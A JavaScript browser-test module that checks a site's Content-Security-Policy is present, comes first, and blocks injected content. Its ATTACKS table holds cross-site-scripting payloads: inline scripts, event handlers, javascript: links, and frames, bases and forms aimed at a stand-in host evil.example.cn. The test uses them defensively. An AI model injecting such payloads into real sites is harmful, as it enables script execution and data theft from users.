// The Content-Security-Policy of the pages: each sort of page has one and works under it, and what an attacker would put
// into a page is stopped by it.

import { takeViolations, VIEWPORTS, withPage } from "../browser.mjs";

// Uses all that a page offers: its menu, its buttons, what opens, what is chosen; then prints it.
async function use(page) {
  for (const summary of await page.locator("summary:visible").all()) await summary.click();
  for (const entry of await page.locator(".menu .has-children > a:visible").all()) await entry.hover();
  await page.keyboard.press("Escape");
  for (const select of await page.locator("select:visible").all()) await select.selectOption({ index: 1 });
  for (const choice of await page.locator("input[type=radio]:visible, input[type=checkbox]:enabled:visible").all()) await choice.check();
  const buttons = page.locator("[data-tool]:visible, [data-quiz] button:visible, [data-board-reset]:visible");
  for (const button of await buttons.all()) await button.click();
  await page.emulateMedia({ media: "print" });
  await page.pdf();
}

async function onPage(browser, viewport, url, { path, address }) {
  return withPage(browser, { viewport, permissions: ["clipboard-write"] }, async (page) => {
    const faults = [];
    page.on("console", (message) => {
      if (message.type() === "error") faults.push(`${path} at ${viewport.width}: ${message.text()}`);
    });
    page.on("pageerror", (error) => faults.push(`${path} at ${viewport.width}: ${error.message}`));
    await page.addInitScript(() => { window.print = () => {}; });
    await page.goto(url + address);
    const first = await page.evaluate(() => {
      const policy = document.head.querySelector("meta[http-equiv='Content-Security-Policy']");
      const loading = document.querySelector("link, script, style, img, base");
      const isBefore = policy && policy.compareDocumentPosition(loading) & Node.DOCUMENT_POSITION_FOLLOWING;
      return policy ? (isBefore ? null : "the policy does not stand first") : "no policy";
    });
    if (first) faults.push(`${path}: ${first}`);
    await use(page);
    // The data blocks for search engines are no scripts, and stay.
    const blocks = await page.evaluate(() => [...document.querySelectorAll("script[type='application/ld+json']")]
      .map((block) => JSON.parse(block.textContent)["@type"]));
    if (path !== "404.html" && blocks.some((type) => !type)) faults.push(`${path}: a data block says nothing`);
    return faults;
  });
}

export async function policy({ browser, url, sorts }) {
  const faults = [];
  for (const sort of sorts) {
    for (const viewport of VIEWPORTS) faults.push(...await onPage(browser, viewport, url, sort));
  }
  return faults;
}

// What an attacker would like to have in a page, and the directive that stops it.
const ATTACKS = {
  "a script's text": ["script-src-elem", "<script>window.isHit = true</script>"],
  "a handler": ["script-src-attr", "<img src='data:,' onerror='window.isHit = true'>"],
  "a link that runs": ["script-src-elem", "<a id=run href='javascript:void(window.isHit = true)'>x</a>"],
  "another site's script": ["script-src-elem", "<script src='https://evil.example.cn/x.js'></script>"],
  "a script out of data": ["script-src-elem", "<script src='data:text/javascript,window.isHit=true'></script>"],
  "a style sheet's text": ["style-src-elem", "<style>body { color: rgb(1, 2, 3) !important }</style>"],
  "a style": ["style-src-attr", "<p style='color: rgb(1, 2, 3)'>x</p>"],
  "a frame": ["frame-src", "<iframe src='https://evil.example.cn/'></iframe>"],
  "a frame with a text of its own": [null, "<iframe srcdoc='<script>parent.isHit = true</script>'></iframe>"],
  "a plug-in": ["object-src", "<object data='https://evil.example.cn/x.swf'></object>"],
  "a base": ["base-uri", "<base href='https://evil.example.cn/'>"],
  "a form": ["form-action", "<form id=send action='https://evil.example.cn/' method=post><button>x</button></form>"],
};

// Runs in the page: puts HTML into it as a parser would, scripts and all, and does what a reader would do with it.
function attack(html) {
  const made = document.createRange().createContextualFragment(html);
  document.body.append(made);
  document.getElementById("run")?.click();
  document.querySelector("#send button")?.click();
}

// Each attack by itself, while the page is loaded and after: none gets through, and each is told.
export async function policyHolds({ browser, url, sorts }) {
  const faults = [];
  const { address } = sorts.find(({ name }) => name.startsWith("document"));
  for (const [what, [directive, html]] of Object.entries(ATTACKS)) {
    for (const written of ["in the file", "by a script"]) {
      await withPage(browser, {}, async (page) => {
        if (written === "in the file") {
          await page.route(url + address, async (route) => {
            const answer = await route.fetch();
            await route.fulfill({ response: answer, body: (await answer.text()).replace("</body>", `${html}</body>`) });
          });
        }
        await page.goto(url + address, { waitUntil: "domcontentloaded" });
        const colour = await page.evaluate(() => getComputedStyle(document.body).color);
        await page.evaluate(attack, written === "in the file" ? "" : html);
        await page.waitForTimeout(150);
        if (await page.evaluate(() => window.isHit)) faults.push(`${what} ${written} runs`);
        if (colour === "rgb(1, 2, 3)" || await page.evaluate(() => document.body.lastElementChild.style?.color)) faults.push(`${what} ${written} is shown`);
        if (!page.url().startsWith(url)) faults.push(`${what} ${written} leads to ${page.url()}`);
        if (await page.evaluate(() => !document.baseURI.startsWith(location.origin))) faults.push(`${what} ${written} moves addresses`);
      });
      const told = takeViolations();
      if (directive && !told.some((line) => line.includes(`stops ${directive} `))) faults.push(`${what} ${written} is not told: ${told}`);
    }
  }
  return faults;
}
